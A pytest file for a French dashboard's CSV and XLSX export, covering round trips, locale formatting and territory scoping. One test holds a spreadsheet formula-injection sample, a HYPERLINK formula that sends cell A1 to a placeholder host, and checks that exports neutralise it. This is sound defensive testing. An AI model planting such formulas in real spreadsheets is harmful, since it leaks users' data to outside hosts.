"""Export in the template shape: French cells in CSV, typed cells in XLSX, and a round trip that gives the same rows.

The round trip runs on the demo database (every entity has rows there): export, import into a database that
holds only the geography and the reference tables, export again, compare.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from dashboard.db import SCHEMA_SQL, Database
from dashboard.imports import LOAD_ORDER, TEMPLATES_BY_ENTITY, describe, export_entity, import_file, import_workbook
from dashboard.imports.export import entity_frame, export_workbook, neutralised, scoped_row_count
from tests.imports.conftest import FIXTURES

# Reference tables that no template imports: a fresh database gets them from the source.
NOT_IMPORTED = ("unit", "indicator", "sa_questionnaire", "sa_theme", "sa_question", "sa_level")
ROUND_TRIP_DEPARTEMENT = "departement:41"  # artisan statistics kept to one department: the test stays quick


@pytest.fixture(scope="module")
def source_path(demo_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the demo database, artisan statistics cut down to one department."""
    path = tmp_path_factory.mktemp("export") / "source.duckdb"
    shutil.copyfile(demo_db_path, path)
    db = Database(path)
    with db.transaction() as cursor:
        cursor.execute(
            "DELETE FROM artisan_stat WHERE commune_id NOT IN "
            "(SELECT commune_id FROM territory_commune WHERE territory_id = $territory)",
            {"territory": ROUND_TRIP_DEPARTEMENT},
        )
    db.close()
    return path


def geography_only(source: Path, target: Path) -> Path:
    """A new database with the source's geography (custom perimeters excepted) and non-imported references."""
    connection = duckdb.connect(str(target))
    try:
        connection.execute(SCHEMA_SQL)
        connection.execute("ATTACH $path AS source (READ_ONLY)", {"path": str(source)})
        connection.execute("INSERT INTO territory SELECT * FROM source.territory WHERE level <> 'perimetre'")
        connection.execute(
            "INSERT INTO territory_membership SELECT m.* FROM source.territory_membership m "
            "JOIN source.territory c ON c.territory_id = m.container_id WHERE c.level <> 'perimetre'"
        )
        for table in NOT_IMPORTED:  # names from the constant above
            connection.execute(f"INSERT INTO {table} SELECT * FROM source.{table}")
        connection.execute("DETACH source")
    finally:
        connection.close()
    return target


def frames(db: Database) -> dict[str, pd.DataFrame]:
    return {entity: entity_frame(db, TEMPLATES_BY_ENTITY[entity]) for entity in LOAD_ORDER}


def test_csv_round_trip_of_every_entity(source_path: Path, tmp_path: Path):
    source = Database(source_path, read_only=True)
    expected = frames(source)
    for entity in LOAD_ORDER:
        assert export_entity(source, entity, tmp_path / f"{entity}.csv") == len(expected[entity])
    source.close()
    assert all(len(frame) for frame in expected.values()), {e: len(f) for e, f in expected.items()}

    fresh = Database(geography_only(source_path, tmp_path / "fresh.duckdb"))
    for entity in LOAD_ORDER:
        result = import_file(fresh, entity, tmp_path / f"{entity}.csv")
        assert result.ok, (entity, [describe(p) for p in result.problems[:5]])
    for entity, frame in frames(fresh).items():
        pd.testing.assert_frame_equal(frame, expected[entity], obj=entity)
    fresh.close()


def test_workbook_round_trip_of_every_entity(source_path: Path, tmp_path: Path):
    source = Database(source_path, read_only=True)
    expected = frames(source)
    counts = export_workbook(source, tmp_path / "tout.xlsx")
    source.close()
    assert counts == {entity: len(frame) for entity, frame in expected.items()}

    fresh = Database(geography_only(source_path, tmp_path / "fresh.duckdb"))
    result = import_workbook(fresh, tmp_path / "tout.xlsx")
    assert result.ok, [describe(p) for p in result.problems[:5]]
    for entity, frame in frames(fresh).items():
        pd.testing.assert_frame_equal(frame, expected[entity], obj=entity)
    fresh.close()


def test_csv_cells_are_french_and_xlsx_cells_typed(db_file: Path, tmp_path: Path):
    db = Database(db_file)
    assert import_file(db, "flows", FIXTURES / "flows_valid.csv").ok
    export_entity(db, "flows", tmp_path / "flux.csv")
    export_entity(db, "diagnostics", tmp_path / "diagnostics.xlsx")
    export_entity(db, "companies", tmp_path / "entreprises.xlsx")
    db.close()
    raw = (tmp_path / "flux.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())  # Excel reads the BOM as UTF-8
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0] == "identifiant;entreprise;diagnostic;sens;categorie;description;quantite;unite;frequence"
    assert "F-1;E-0001;;out;carton;Cartons;12,5;t;yearly" in lines
    diagnostics = pd.read_excel(tmp_path / "diagnostics.xlsx")
    assert diagnostics.loc[0, "date_diagnostic"] == pd.Timestamp(2024, 3, 15)  # a real date cell
    companies = pd.read_excel(tmp_path / "entreprises.xlsx", dtype={"code_commune": object})
    assert companies.loc[0, "code_commune"] == "41269"  # commune codes stay text: no lost leading zero
    assert companies.loc[0, "latitude"] == pytest.approx(47.793)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_no_exported_cell_can_be_evaluated_as_a_formula(db_file: Path, tmp_path: Path):
    db = Database(db_file)
    source = FIXTURES / "companies_formula_text.csv"
    assert import_file(db, "companies", source).ok
    stored = dict(db.query_rows("SELECT company_id, name FROM company WHERE company_id LIKE 'E-02%'"))
    assert stored["E-0201"].startswith("=HYPERLINK(")  # imported as written: it is text
    export_entity(db, "companies", tmp_path / "entreprises.csv")
    export_entity(db, "companies", tmp_path / "entreprises.xlsx")
    db.close()

    text = (tmp_path / "entreprises.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert [cell for cell in cells if cell[:1] in FORMULA_STARTS] == []
    assert '\'=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")' in cells and "'=1+1" in cells

    workbook = openpyxl.load_workbook(tmp_path / "entreprises.xlsx")
    written = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in written if cell.data_type == "f"] == []
    risky = [cell for cell in written if isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS]
    assert len(risky) == 5 and all(cell.quotePrefix for cell in risky)  # Excel keeps them text when edited
    assert {cell.value for cell in risky} >= set(stored.values())  # as typed, without any apostrophe

    # The apostrophe is the export's: importing the CSV again gives the names as they were.
    fresh_path = tmp_path / "fresh.duckdb"
    shutil.copyfile(db_file, fresh_path)
    fresh = Database(fresh_path)
    with fresh.transaction() as cursor:
        cursor.execute("DELETE FROM company WHERE company_id LIKE 'E-02%'")
    only_new = tmp_path / "companies.csv"
    only_new.write_text(
        "\n".join(line for line in text.splitlines() if line.startswith(("identifiant", "E-02"))), encoding="utf-8"
    )
    assert import_file(fresh, "companies", only_new).ok
    assert dict(fresh.query_rows("SELECT company_id, name FROM company WHERE company_id LIKE 'E-02%'")) == stored
    fresh.close()


@pytest.mark.parametrize("text", ["-3", "+1 234,5", "-0,5", "12,5"])
def test_numbers_written_as_text_are_not_taken_for_formulas(text: str):
    assert neutralised(text) == text


EXPORT_TERRITORY = "epci:200072072"  # the demo's Vendômois


def test_an_export_for_a_territory_holds_only_that_territorys_rows(source_path: Path):
    db = Database(source_path, read_only=True)
    communes = {row[0] for row in db.query_rows(
        "SELECT commune_id FROM territory_commune WHERE territory_id = $t", {"t": EXPORT_TERRITORY}
    )}  # fmt: skip
    companies = entity_frame(db, TEMPLATES_BY_ENTITY["companies"], scope=EXPORT_TERRITORY)
    every_company = entity_frame(db, TEMPLATES_BY_ENTITY["companies"])
    assert 0 < len(companies) < len(every_company)
    located = dict(db.query_rows("SELECT company_id, commune_id FROM company"))
    own_programme = set(db.query_rows(  # a company also counts when a programme of the territory diagnosed it
        "SELECT company_id FROM scope_companies($scope)", {"scope": EXPORT_TERRITORY}
    ))  # fmt: skip
    assert all(located[company] in communes or (company,) in own_programme for company in companies["identifiant"])
    stats = entity_frame(db, TEMPLATES_BY_ENTITY["artisan_stats"], scope=EXPORT_TERRITORY)
    assert len(stats) > 0 and {"commune:" + code for code in stats["code_commune"]} <= communes
    for entity in ("flows", "synergies", "events", "indicator_values"):
        scoped = len(entity_frame(db, TEMPLATES_BY_ENTITY[entity], scope=EXPORT_TERRITORY))
        assert scoped == scoped_row_count(db, entity, EXPORT_TERRITORY)
        whole = len(entity_frame(db, TEMPLATES_BY_ENTITY[entity]))
        # the demo's declared indicator values are all the Vendômois programme's
        assert scoped < whole if entity != "indicator_values" else 0 < scoped <= whole, entity
    db.close()
